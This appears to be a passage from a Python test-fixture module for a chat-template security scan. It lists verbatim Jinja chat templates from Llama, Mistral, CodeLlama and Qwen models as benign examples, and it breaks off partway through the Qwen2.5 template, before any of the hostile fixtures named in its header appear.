"""Chat templates for the chat-template scan: real ones that pass, hostile ones that must not."""

from __future__ import annotations

__all__ = ["BENIGN_TEMPLATES", "HOSTILE_TEMPLATES", "MARKER_PLACEHOLDER"]

# Real chat templates, verbatim. Two sources, both copies of what model repos ship:
# - "ollama NAME GGUF": the tokenizer.chat_template metadata of the GGUF files ollama serves
#   (huggingface.js, packages/ollama-utils/src/chat-template-automap.ts, generated from the
#   files themselves);
# - "huggingface.js e2e NAME": the chat_template of the Hub repo's tokenizer_config.json, as
#   huggingface.js's Jinja test suite (packages/jinja/test/e2e.test.js) copies it.
# Split into implicitly concatenated pieces only to fit the line length; the text is unchanged.
BENIGN_TEMPLATES: dict[str, str] = {
    # meta-llama/Llama-2-7b-chat-hf (ollama llama2:7b GGUF)
    "llama-2-chat": (
        "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% s"
        "et system_message = messages[0]['content'] %}{% else %}{% set loop_messages = mess"
        "ages %}{% set system_message = false %}{% endif %}{% for message in loop_messages "
        "%}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception"
        "('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif"
        " %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>"
        "\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% se"
        "t content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ b"
        "os_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == '"
        "assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}"
    ),
    # meta-llama/Meta-Llama-3-8B-Instruct (ollama llama3:8b GGUF)
    "llama-3-instruct": (
        "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content"
        " = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n"
        "\n"
        "'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set cont"
        "ent = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generati"
        "on_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n"
        "\n"
        "' }}{% endif %}"
    ),
    # meta-llama/Llama-3.1-8B-Instruct (huggingface.js e2e 'meta-llama/Llama-3.1-8B-Instruct')
    "llama-3.1-instruct": (
        "{{- bos_token }}\n"
        "{%- if custom_tools is defined %}\n"
        "    {%- set tools = custom_tools %}\n"
        "{%- endif %}\n"
        "{%- if not tools_in_user_message is defined %}\n"
        "    {%- set tools_in_user_message = true %}\n"
        "{%- endif %}\n"
        "{%- if not date_string is defined %}\n"
        '    {%- set date_string = "26 Jul 2024" %}\n'
        "{%- endif %}\n"
        "{%- if not tools is defined %}\n"
        "    {%- set tools = none %}\n"
        "{%- endif %}\n"
        "\n"
        "{#- This block extracts the system message, so we can slot it into the right place"
        ". #}\n"
        "{%- if messages[0]['role'] == 'system' %}\n"
        "    {%- set system_message = messages[0]['content']|trim %}\n"
        "    {%- set messages = messages[1:] %}\n"
        "{%- else %}\n"
        '    {%- set system_message = "" %}\n'
        "{%- endif %}\n"
        "\n"
        "{#- System message + builtin tools #}\n"
        '{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}\n'
        "{%- if builtin_tools is defined or tools is not none %}\n"
        '    {{- "Environment: ipython\\n" }}\n'
        "{%- endif %}\n"
        "{%- if builtin_tools is defined %}\n"
        "    {{- \"Tools: \" + builtin_tools | reject('equalto', 'code_interpreter') | join"
        '(", ") + "\\n\\n"}}\n'
        "{%- endif %}\n"
        '{{- "Cutting Knowledge Date: December 2023\\n" }}\n'
        '{{- "Today Date: " + date_string + "\\n\\n" }}\n'
        "{%- if tools is not none and not tools_in_user_message %}\n"
        '    {{- "You have access to the following functions. To call a function, please r'
        'espond with JSON for a function call." }}\n'
        '    {{- \'Respond in the format {"name": function name, "parameters": dictionar'
        "y of argument name and its value}.' }}\n"
        '    {{- "Do not use variables.\\n\\n" }}\n'
        "    {%- for t in tools %}\n"
        "        {{- t | tojson(indent=4) }}\n"
        '        {{- "\\n\\n" }}\n'
        "    {%- endfor %}\n"
        "{%- endif %}\n"
        "{{- system_message }}\n"
        '{{- "<|eot_id|>" }}\n'
        "\n"
        "{#- Custom tools are passed in a user message with some extra guidance #}\n"
        "{%- if tools_in_user_message and not tools is none %}\n"
        "    {#- Extract the first user message so we can plug it in here #}\n"
        "    {%- if messages | length != 0 %}\n"
        "        {%- set first_user_message = messages[0]['content']|trim %}\n"
        "        {%- set messages = messages[1:] %}\n"
        "    {%- else %}\n"
        '        {{- raise_exception("Cannot put tools in the first user message when ther'
        "e's no first user message!\") }}\n"
        "{%- endif %}\n"
        "    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' -}}\n"
        '    {{- "Given the following functions, please respond with a JSON for a function'
        ' call " }}\n'
        '    {{- "with its proper arguments that best answers the given prompt.\\n\\n" }}'
        "\n"
        '    {{- \'Respond in the format {"name": function name, "parameters": dictionar'
        "y of argument name and its value}.' }}\n"
        '    {{- "Do not use variables.\\n\\n" }}\n'
        "    {%- for t in tools %}\n"
        "        {{- t | tojson(indent=4) }}\n"
        '        {{- "\\n\\n" }}\n'
        "    {%- endfor %}\n"
        '    {{- first_user_message + "<|eot_id|>"}}\n'
        "{%- endif %}\n"
        "\n"
        "{%- for message in messages %}\n"
        "    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls"
        "' in message) %}\n"
        "        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ m"
        "essage['content'] | trim + '<|eot_id|>' }}\n"
        "    {%- elif 'tool_calls' in message %}\n"
        "        {%- if not message.tool_calls|length == 1 %}\n"
        '            {{- raise_exception("This model only supports single tool-calls at on'
        'ce!") }}\n'
        "        {%- endif %}\n"
        "        {%- set tool_call = message.tool_calls[0].function %}\n"
        "        {%- if builtin_tools is defined and tool_call.name in builtin_tools %}\n"
        "            {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
        '            {{- "<|python_tag|>" + tool_call.name + ".call(" }}\n'
        "            {%- for arg_name, arg_val in tool_call.arguments | items %}\n"
        "                {{- arg_name + '=\"' + arg_val + '\"' }}\n"
        "                {%- if not loop.last %}\n"
        '                    {{- ", " }}\n'
        "                {%- endif %}\n"
        "                {%- endfor %}\n"
        '            {{- ")" }}\n'
        "        {%- else  %}\n"
        "            {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
        "            {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n"
        "            {{- '\"parameters\": ' }}\n"
        "            {{- tool_call.arguments | tojson }}\n"
        '            {{- "}" }}\n'
        "        {%- endif %}\n"
        "        {%- if builtin_tools is defined %}\n"
        "            {#- This means we're in ipython mode #}\n"
        '            {{- "<|eom_id|>" }}\n'
        "        {%- else %}\n"
        '            {{- "<|eot_id|>" }}\n'
        "        {%- endif %}\n"
        '    {%- elif message.role == "tool" or message.role == "ipython" %}\n'
        '        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}\n'
        "        {%- if message.content is mapping or message.content is iterable %}\n"
        "            {{- message.content | tojson }}\n"
        "        {%- else %}\n"
        "            {{- message.content }}\n"
        "        {%- endif %}\n"
        '        {{- "<|eot_id|>" }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n"
        "{%- endif %}\n"
    ),
    # meta-llama/Llama-3.2-3B-Instruct (ollama llama3.2:3b GGUF)
    "llama-3.2-instruct": (
        "{{- bos_token }}\n"
        "{%- if custom_tools is defined %}\n"
        "    {%- set tools = custom_tools %}\n"
        "{%- endif %}\n"
        "{%- if not tools_in_user_message is defined %}\n"
        "    {%- set tools_in_user_message = true %}\n"
        "{%- endif %}\n"
        "{%- if not date_string is defined %}\n"
        "    {%- if strftime_now is defined %}\n"
        '        {%- set date_string = strftime_now("%d %b %Y") %}\n'
        "    {%- else %}\n"
        '        {%- set date_string = "26 Jul 2024" %}\n'
        "    {%- endif %}\n"
        "{%- endif %}\n"
        "{%- if not tools is defined %}\n"
        "    {%- set tools = none %}\n"
        "{%- endif %}\n"
        "\n"
        "{#- This block extracts the system message, so we can slot it into the right place"
        ". #}\n"
        "{%- if messages[0]['role'] == 'system' %}\n"
        "    {%- set system_message = messages[0]['content']|trim %}\n"
        "    {%- set messages = messages[1:] %}\n"
        "{%- else %}\n"
        '    {%- set system_message = "" %}\n'
        "{%- endif %}\n"
        "\n"
        "{#- System message #}\n"
        '{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}\n'
        "{%- if tools is not none %}\n"
        '    {{- "Environment: ipython\\n" }}\n'
        "{%- endif %}\n"
        '{{- "Cutting Knowledge Date: December 2023\\n" }}\n'
        '{{- "Today Date: " + date_string + "\\n\\n" }}\n'
        "{%- if tools is not none and not tools_in_user_message %}\n"
        '    {{- "You have access to the following functions. To call a function, please r'
        'espond with JSON for a function call." }}\n'
        '    {{- \'Respond in the format {"name": function name, "parameters": dictionar'
        "y of argument name and its value}.' }}\n"
        '    {{- "Do not use variables.\\n\\n" }}\n'
        "    {%- for t in tools %}\n"
        "        {{- t | tojson(indent=4) }}\n"
        '        {{- "\\n\\n" }}\n'
        "    {%- endfor %}\n"
        "{%- endif %}\n"
        "{{- system_message }}\n"
        '{{- "<|eot_id|>" }}\n'
        "\n"
        "{#- Custom tools are passed in a user message with some extra guidance #}\n"
        "{%- if tools_in_user_message and not tools is none %}\n"
        "    {#- Extract the first user message so we can plug it in here #}\n"
        "    {%- if messages | length != 0 %}\n"
        "        {%- set first_user_message = messages[0]['content']|trim %}\n"
        "        {%- set messages = messages[1:] %}\n"
        "    {%- else %}\n"
        '        {{- raise_exception("Cannot put tools in the first user message when ther'
        "e's no first user message!\") }}\n"
        "{%- endif %}\n"
        "    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' -}}\n"
        '    {{- "Given the following functions, please respond with a JSON for a function'
        ' call " }}\n'
        '    {{- "with its proper arguments that best answers the given prompt.\\n\\n" }}'
        "\n"
        '    {{- \'Respond in the format {"name": function name, "parameters": dictionar'
        "y of argument name and its value}.' }}\n"
        '    {{- "Do not use variables.\\n\\n" }}\n'
        "    {%- for t in tools %}\n"
        "        {{- t | tojson(indent=4) }}\n"
        '        {{- "\\n\\n" }}\n'
        "    {%- endfor %}\n"
        '    {{- first_user_message + "<|eot_id|>"}}\n'
        "{%- endif %}\n"
        "\n"
        "{%- for message in messages %}\n"
        "    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls"
        "' in message) %}\n"
        "        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ m"
        "essage['content'] | trim + '<|eot_id|>' }}\n"
        "    {%- elif 'tool_calls' in message %}\n"
        "        {%- if not message.tool_calls|length == 1 %}\n"
        '            {{- raise_exception("This model only supports single tool-calls at on'
        'ce!") }}\n'
        "        {%- endif %}\n"
        "        {%- set tool_call = message.tool_calls[0].function %}\n"
        "        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
        "        {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n"
        "        {{- '\"parameters\": ' }}\n"
        "        {{- tool_call.arguments | tojson }}\n"
        '        {{- "}" }}\n'
        '        {{- "<|eot_id|>" }}\n'
        '    {%- elif message.role == "tool" or message.role == "ipython" %}\n'
        '        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}\n'
        "        {%- if message.content is mapping or message.content is iterable %}\n"
        "            {{- message.content | tojson }}\n"
        "        {%- else %}\n"
        "            {{- message.content }}\n"
        "        {%- endif %}\n"
        '        {{- "<|eot_id|>" }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n"
        "{%- endif %}\n"
    ),
    # meta-llama/Llama-3.2-11B-Vision-Instruct
    # (huggingface.js e2e 'meta-llama/Llama-3.2-11B-Vision-Instruct')
    "llama-3.2-vision-instruct": (
        "{{- bos_token }}\n"
        "{%- if custom_tools is defined %}\n"
        "    {%- set tools = custom_tools %}\n"
        "{%- endif %}\n"
        "{%- if not tools_in_user_message is defined %}\n"
        "    {%- set tools_in_user_message = true %}\n"
        "{%- endif %}\n"
        "{%- if not date_string is defined %}\n"
        "    {%- if strftime_now is defined %}\n"
        '        {%- set date_string = strftime_now("%d %b %Y") %}\n'
        "    {%- else %}\n"
        '        {%- set date_string = "26 Jul 2024" %}\n'
        "    {%- endif %}\n"
        "{%- endif %}\n"
        "{%- if not tools is defined %}\n"
        "    {%- set tools = none %}\n"
        "{%- endif %}\n"
        "\n"
        "{#- This block extracts the system message, so we can slot it into the right place"
        ". #}\n"
        "{%- if messages[0]['role'] == 'system' %}\n"
        "    {%- set system_message = messages[0]['content']|trim %}\n"
        "    {%- set messages = messages[1:] %}\n"
        "    {%- set user_supplied_system_message = true %}\n"
        "{%- else %}\n"
        '    {%- set system_message = "" %}\n'
        "    {%- set user_supplied_system_message = false %}\n"
        "{%- endif %}\n"
        "\n"
        "{#- Find out if there are any images #}\n"
        "{% set image_ns = namespace(has_images=false) %}      \n"
        "{%- for message in messages %}\n"
        "    {%- for content in message['content'] %}\n"
        "        {%- if content['type'] == 'image' %}\n"
        "            {%- set image_ns.has_images = true %}\n"
        "        {%- endif %}\n"
        "    {%- endfor %}\n"
        "{%- endfor %}\n"
        "\n"
        "{#- System message if there are no images, or if the user supplied one #}\n"
        "{%- if user_supplied_system_message or not image_ns.has_images %}\n"
        '    {{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}\n'
        "    {%- if tools is not none %}\n"
        '        {{- "Environment: ipython\\n" }}\n'
        "    {%- endif %}\n"
        '    {{- "Cutting Knowledge Date: December 2023\\n" }}\n'
        '    {{- "Today Date: " + date_string + "\\n\\n" }}\n'
        "    {%- if tools is not none and not tools_in_user_message %}\n"
        '        {{- "You have access to the following functions. To call a function, plea'
        'se respond with JSON for a function call." }}\n'
        '        {{- \'Respond in the format {"name": function name, "parameters": dicti'
        "onary of argument name and its value}.' }}\n"
        '        {{- "Do not use variables.\\n\\n" }}\n'
        "        {%- for t in tools %}\n"
        "            {{- t | tojson(indent=4) }}\n"
        '            {{- "\\n\\n" }}\n'
        "        {%- endfor %}\n"
        "    {%- endif %}\n"
        "    {{- system_message }}\n"
        '    {{- "<|eot_id|>" }}\n'
        "{%- endif %}\n"
        "\n"
        "{#- Custom tools are passed in a user message with some extra guidance #}\n"
        "{%- if tools_in_user_message and not tools is none %}\n"
        "    {#- Extract the first user message so we can plug it in here #}\n"
        "    {%- if messages | length != 0 %}\n"
        "        {%- set first_user_message = messages[0]['content']|trim %}\n"
        "        {%- set messages = messages[1:] %}\n"
        "    {%- else %}\n"
        '        {{- raise_exception("Cannot put tools in the first user message when ther'
        "e's no first user message!\") }}\n"
        "{%- endif %}\n"
        "    {{- '<|start_header_id|>user<|end_header_id|>\\n\\n' -}}\n"
        '    {{- "Given the following functions, please respond with a JSON for a function'
        ' call " }}\n'
        '    {{- "with its proper arguments that best answers the given prompt.\\n\\n" }}'
        "\n"
        '    {{- \'Respond in the format {"name": function name, "parameters": dictionar'
        "y of argument name and its value}.' }}\n"
        '    {{- "Do not use variables.\\n\\n" }}\n'
        "    {%- for t in tools %}\n"
        "        {{- t | tojson(indent=4) }}\n"
        '        {{- "\\n\\n" }}\n'
        "    {%- endfor %}\n"
        '    {{- first_user_message + "<|eot_id|>"}}\n'
        "{%- endif %}\n"
        "\n"
        "{%- for message in messages %}\n"
        "    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls"
        "' in message) %}\n"
        "    {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' }}\n"
        "        {%- if message['content'] is string %}\n"
        "            {{- message['content'] }}\n"
        "        {%- else %}\n"
        "            {%- for content in message['content'] %}\n"
        "                {%- if content['type'] == 'image' %}\n"
        "                    {{- '<|image|>' }}\n"
        "                {%- elif content['type'] == 'text' %}\n"
        "                    {{- content['text'] }}\n"
        "                {%- endif %}\n"
        "            {%- endfor %}\n"
        "        {%- endif %}\n"
        "        {{- '<|eot_id|>' }}\n"
        "    {%- elif 'tool_calls' in message %}\n"
        "        {%- if not message.tool_calls|length == 1 %}\n"
        '            {{- raise_exception("This model only supports single tool-calls at on'
        'ce!") }}\n'
        "        {%- endif %}\n"
        "        {%- set tool_call = message.tool_calls[0].function %}\n"
        "        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
        "        {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n"
        "        {{- '\"parameters\": ' }}\n"
        "        {{- tool_call.arguments | tojson }}\n"
        '        {{- "}" }}\n'
        '        {{- "<|eot_id|>" }}\n'
        '    {%- elif message.role == "tool" or message.role == "ipython" %}\n'
        '        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}\n'
        "        {%- if message.content is mapping or message.content is iterable %}\n"
        "            {{- message.content | tojson }}\n"
        "        {%- else %}\n"
        "            {{- message.content }}\n"
        "        {%- endif %}\n"
        '        {{- "<|eot_id|>" }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n"
        "{%- endif %}\n"
    ),
    # codellama/CodeLlama-70b-Instruct-hf (huggingface.js e2e 'codellama/CodeLlama-70b-Instruct-hf')
    "codellama-70b-instruct": (
        "{% if messages[0]['role'] == 'system' %}{% set user_index = 1 %}{% else %}{% set u"
        "ser_index = 0 %}{% endif %}{% for message in messages %}{% if (message['role'] == "
        "'user') != ((loop.index0 + user_index) % 2 == 0) %}{{ raise_exception('Conversatio"
        "n roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop"
        ".index0 == 0 %}{{ '<s>' }}{% endif %}{% set content = 'Source: ' + message['role']"
        " + '\n"
        "\n"
        " ' + message['content'] | trim %}{{ content + ' <step> ' }}{% endfor %}{{'Source: "
        "assistant\n"
        "Destination: user\n"
        "\n"
        " '}}"
    ),
    # mistralai/Mistral-7B-Instruct-v0.1
    # (huggingface.js e2e 'TheBloke/Mistral-7B-Instruct-v0.1-GPTQ')
    "mistral-7b-instruct-v0.1": (
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != ("
        "loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user"
        "/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ "
        "'[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistan"
        "t' %}{{ message['content'] + eos_token + ' ' }}{% else %}{{ raise_exception('Only "
        "user and assistant roles are supported!') }}{% endif %}{% endfor %}"
    ),
    # mistralai/Mixtral-8x7B-Instruct-v0.1
    # (huggingface.js e2e 'mistralai/Mixtral-8x7B-Instruct-v0.1')
    "mixtral-8x7b-instruct-v0.1": (
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != ("
        "loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user"
        "/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ "
        "'[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistan"
        "t' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user an"
        "d assistant roles are supported!') }}{% endif %}{% endfor %}"
    ),
    # mistralai/Mistral-7B-Instruct-v0.3
    # (huggingface.js e2e 'mistralai/Mistral-7B-Instruct-v0.3 (JSON Schema)')
    "mistral-7b-instruct-v0.3-tools": (
        "{{- bos_token }}\n"
        "{%- set user_messages = messages | selectattr('role', 'equalto', 'user') | list %}"
        "\n"
        "{%- for message in messages %}\n"
        "    {%- if message['role'] == 'user' %}\n"
        "        {%- if tools and (message == user_messages[-1]) %}\n"
        "            {{- ' [AVAILABLE_TOOLS] [' }}\n"
        "            {%- for tool in tools %}\n"
        "\t\t{%- set tool = tool.function %}\n"
        '\t\t{{- \'{"type": "function", "function": {\' }}\n'
        '\t\t{%- for key, val in tool|items if key != "return" %}\n'
        "\t\t    {%- if val is string %}\n"
        "\t\t\t{{- '\"' + key + '\": \"' + val + '\"' }}\n"
        "\t\t    {%- else %}\n"
        "\t\t\t{{- '\"' + key + '\": ' + val|tojson }}\n"
        "\t\t    {%- endif %}\n"
        "\t\t    {%- if not loop.last %}\n"
        '\t\t\t{{- ", " }}\n'
        "\t\t    {%- endif %}\n"
        "\t\t{%- endfor %}\n"
        '\t\t{{- "}}" }}\n'
        "                {%- if not loop.last %}\n"
        '                    {{- ", " }}\n'
        "                {%- else %}\n"
        '                    {{- "]" }}\n'
        "                {%- endif %}\n"
        "            {%- endfor %}\n"
        "            {{- ' [/AVAILABLE_TOOLS]' }}\n"
        "            {%- endif %}\n"
        "        {{- ' [INST] ' + message['content'] + ' [/INST]' }}\n"
        "    {%- elif message['role'] == 'assistant' %}\n"
        "        {%- if message.tool_calls is defined and message.tool_calls|length > 0 %}"
        "\n"
        "            {{- ' [TOOL_CALLS] [' }}\n"
        "            {%- for tool_call in message.tool_calls %}\n"
        '                {{- {"name": tool_call.function.name, "arguments": tool_call.f'
        'unction.arguments, "id": tool_call.id}|tojson }}\n'
        "                {%- if not loop.last %}\n"
        '                    {{- ", " }}\n'
        "                {%- endif %}\n"
        "            {%- endfor %}\n"
        "            {{- '] ' }}\n"
        "            {{- eos_token }}\n"
        "    \t{%- elif message.content is defined %}\n"
        "\t    {{- ' ' + message.content + ' ' + eos_token}}\n"
        "        {%- endif %}\n"
        "    {%- elif message['role'] == 'tool' %}\n"
        "        {{- ' [TOOL_RESULTS] ' }}\n"
        '        {{- \'{"call_id": "\' + message.tool_call_id + \'", "content": \' + mess'
        "age.content|string + '}' }}\n"
        "        {{- ' [/TOOL_RESULTS] ' }}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
    ),
    # mistralai/Mistral-Nemo-Instruct-2407
    # (huggingface.js e2e 'mistralai/Mistral-Nemo-Instruct-2407')
    "mistral-nemo-instruct-2407": (
        '{%- if messages[0]["role"] == "system" %}\n'
        '    {%- set system_message = messages[0]["content"] %}\n'
        "    {%- set loop_messages = messages[1:] %}\n"
        "{%- else %}\n"
        "    {%- set loop_messages = messages %}\n"
        "{%- endif %}\n"
        "{%- if not tools is defined %}\n"
        "    {%- set tools = none %}\n"
        "{%- endif %}\n"
        '{%- set user_messages = loop_messages | selectattr("role", "equalto", "user"'
        ") | list %}\n"
        "\n"
        '{%- for message in loop_messages | rejectattr("role", "equalto", "tool") | r'
        'ejectattr("role", "equalto", "tool_results") | selectattr("tool_calls", "'
        'undefined") %}\n'
        '    {%- if (message["role"] == "user") != (loop.index0 % 2 == 0) %}\n'
        '        {{- raise_exception("After the optional system message, conversation role'
        's must alternate user/assistant/user/assistant/...") }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "\n"
        "{{- bos_token }}\n"
        "{%- for message in loop_messages %}\n"
        '    {%- if message["role"] == "user" %}\n'
        "        {%- if tools is not none and (message == user_messages[-1]) %}\n"
        '            {{- "[AVAILABLE_TOOLS][" }}\n'
        "            {%- for tool in tools %}\n"
        "        {%- set tool = tool.function %}\n"
        '        {{- \'{"type": "function", "function": {\' }}\n'
        '        {%- for key, val in tool.items() if key != "return" %}\n'
        "            {%- if val is string %}\n"
        "            {{- '\"' + key + '\": \"' + val + '\"' }}\n"
        "            {%- else %}\n"
        "            {{- '\"' + key + '\": ' + val|tojson }}\n"
        "            {%- endif %}\n"
        "            {%- if not loop.last %}\n"
        '            {{- ", " }}\n'
        "            {%- endif %}\n"
        "        {%- endfor %}\n"
        '        {{- "}}" }}\n'
        "                {%- if not loop.last %}\n"
        '                    {{- ", " }}\n'
        "                {%- else %}\n"
        '                    {{- "]" }}\n'
        "                {%- endif %}\n"
        "            {%- endfor %}\n"
        '            {{- "[/AVAILABLE_TOOLS]" }}\n'
        "            {%- endif %}\n"
        "        {%- if loop.last and system_message is defined %}\n"
        '            {{- "[INST]" + system_message + "\\n\\n" + message["content"] + '
        '"[/INST]" }}\n'
        "        {%- else %}\n"
        '            {{- "[INST]" + message["content"] + "[/INST]" }}\n'
        "        {%- endif %}\n"
        '    {%- elif message["role"] == "tool_calls" or message.tool_calls is defined '
        "%}\n"
        "        {%- if message.tool_calls is defined %}\n"
        "            {%- set tool_calls = message.tool_calls %}\n"
        "        {%- else %}\n"
        "            {%- set tool_calls = message.content %}\n"
        "        {%- endif %}\n"
        '        {{- "[TOOL_CALLS][" }}\n'
        "        {%- for tool_call in tool_calls %}\n"
        "            {%- set out = tool_call.function|tojson %}\n"
        "            {{- out[:-1] }}\n"
        "            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}\n"
        '                {{- raise_exception("Tool call IDs should be alphanumeric strings'
        ' with length 9!") }}\n'
        "            {%- endif %}\n"
        "            {{- ', \"id\": \"' + tool_call.id + '\"}' }}\n"
        "            {%- if not loop.last %}\n"
        '                {{- ", " }}\n'
        "            {%- else %}\n"
        '                {{- "]" + eos_token }}\n'
        "            {%- endif %}\n"
        "        {%- endfor %}\n"
        '    {%- elif message["role"] == "assistant" %}\n'
        '        {{- message["content"] + eos_token}}\n'
        '    {%- elif message["role"] == "tool_results" or message["role"] == "tool'
        '" %}\n'
        "        {%- if message.content is defined and message.content.content is defined %"
        "}\n"
        "            {%- set content = message.content.content %}\n"
        "        {%- else %}\n"
        "            {%- set content = message.content %}\n"
        "        {%- endif %}\n"
        '        {{- \'[TOOL_RESULTS]{"content": \' + content|string + ", " }}\n'
        "        {%- if not message.tool_call_id is defined or message.tool_call_id|length "
        "!= 9 %}\n"
        '            {{- raise_exception("Tool call IDs should be alphanumeric strings wit'
        'h length 9!") }}\n'
        "        {%- endif %}\n"
        "        {{- '\"call_id\": \"' + message.tool_call_id + '\"}[/TOOL_RESULTS]' }}\n"
        "    {%- else %}\n"
        '        {{- raise_exception("Only user and assistant roles are supported, with th'
        'e exception of an initial optional system message!") }}\n'
        "    {%- endif %}\n"
        "{%- endfor %}\n"
    ),
    # Qwen/Qwen1.5-72B-Chat (huggingface.js e2e 'Qwen/Qwen1.5-72B-Chat')
    "qwen1.5-chat": (
        "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' "
        "%}{{ '<|im_start|>system\n"
        "You are a helpful assistant<|im_end|>\n"
        "' }}{% endif %}{{'<|im_start|>' + message['role'] + '\n"
        "' + message['content']}}{% if (loop.last and add_generation_prompt) or not loop.la"
        "st %}{{ '<|im_end|>' + '\n"
        "'}}{% endif %}{% endfor %}{% if add_generation_prompt and messages[-1]['role'] != "
        "'assistant' %}{{ '<|im_start|>assistant\n"
        "' }}{% endif %}"
    ),
    # Qwen/Qwen2-0.5B-Instruct (ollama qwen2:0.5b GGUF)
    "qwen2-instruct": (
        "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' "
        "%}{{ '<|im_start|>system\n"
        "You are a helpful assistant.<|im_end|>\n"
        "' }}{% endif %}{{'<|im_start|>' + message['role'] + '\n"
        "' + message['content'] + '<|im_end|>' + '\n"
        "'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n"
        "' }}{% endif %}"
    ),
    # Qwen/Qwen2.5-7B-Instruct (huggingface.js e2e 'Qwen/Qwen2.5-7B-Instruct')
    "qwen2.5-instruct-tools": (
        "{%- if tools %}\n"
        "    {{- '<|im_start|>system\\n' }}\n"
        "    {%- if messages[0]['role'] == 'system' %}\n"
        "        {{- messages[0]['content'] }}\n"
        "    {%- else %}\n"
        "        {{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.'"
        " }}\n"
        "    {%- endif %}\n"
        '    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the'
        " user query.\\n\\nYou are provided with function signatures within <tools></tools>"
        ' XML tags:\\n<tools>" }}\n'
        "    {%- for tool in tools %}\n"
        '        {{- "\\n" }}\n'
        "        {{- tool | tojson }}\n"
        "    {%- endfor %}\n"
        '    {{- "\\n</tools>\\n\\nFor each function call, return a json object with funct'
        "ion name and arguments within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{"
        '\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_cal'
        'l><|im_end|>\\n" }}\n'
        "{%- else %}\n"
        "    {%- if messages[0]['role'] == 'system' %}\n"
        "        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}"
        "\n"
        "    {%- else %}\n"
        "        {{- '<|im_start|>system\\nYou are Qwen, created by Alibaba Cloud. You are "
        "a helpful assistant.<|im_end|>\\n' }}\n"
        "    {%- endif %}\n"
        "{%- endif %}\n"
        "{%- for message in messages %}\n"
        '    {%- if (message.role == "user") or (message.role == "system" and not loop.'
        'first) or (message.role == "assistant" and not message.tool_calls) %}\n'
        "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>'"
        " + '\\n' }}\n"
        '    {%- elif message.role == "assistant" %}\n'
        "        {{- '<|im_start|>' + message.role }}\n"
        "        {%- if message.content %}\n"
        "            {{- '\\n' + message.content }}\n"
        "        {%- endif %}\n"
        "        {%- for tool_call in message.tool_calls %}\n"
        "            {%- if tool_call.function is defined %}\n"
        "                {%- set tool_call = tool_call.function %}\n"
        "            {%- endif %}\n"
        '            {{- \'\\n<tool_call>\\n{"name": "\' }}\n'
        "            {{- tool_call.name }}\n"
        '            {{- \'", "arguments": \' }}\n'
        "            {{- tool_call.arguments | tojson }}\n"
        "            {{- '}\\n</tool_call>' }}\n"
        "        {%- endfor %}\n"
